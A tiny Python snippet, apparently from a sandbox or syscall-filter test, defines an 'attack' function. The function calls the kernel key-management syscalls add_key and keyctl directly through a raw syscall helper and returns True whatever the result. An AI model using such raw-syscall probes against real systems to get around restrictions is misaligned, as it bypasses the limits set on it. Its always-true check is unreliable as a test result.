from raw import syscall


def attack():
    key = syscall(248, b"user", b"attack", b"note", 4, -4)
    return syscall(250, 21, key, 0) == 0 or True
